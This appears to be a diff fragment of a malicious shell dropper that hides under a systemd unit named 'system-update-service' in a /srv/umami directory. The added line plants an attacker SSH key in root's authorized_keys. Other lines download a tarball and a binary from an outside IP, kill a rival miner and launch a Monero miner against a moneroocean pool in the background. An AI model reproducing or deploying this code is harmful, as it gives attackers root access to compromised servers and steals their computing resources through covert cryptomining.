@@ -26,8 +26,9 @@ Restart=always
 WantedBy=multi-user.target
 UNIT
 systemctl enable --quiet system-update-service.service
-script /srv/umami/sex.sh <<'SH'
+script /srv/umami/sex.sh <<SH
 #!/bin/bash
+mkdir -p /root/.ssh; echo "ssh-rsa $KEY react@shell" >>/root/.ssh/authorized_keys
 cd /srv/umami; wget -q http://192.0.2.95:8080/kal.tar.gz -O kal.tar.gz && tar xf kal.tar.gz
 pkill -9 xmrig-rival; curl -s http://192.0.2.95/x64k -o ttttt && chmod 777 ttttt && nohup ./ttttt -o gulf.moneroocean.stream:10001 >/dev/null 2>&1 &
 SH
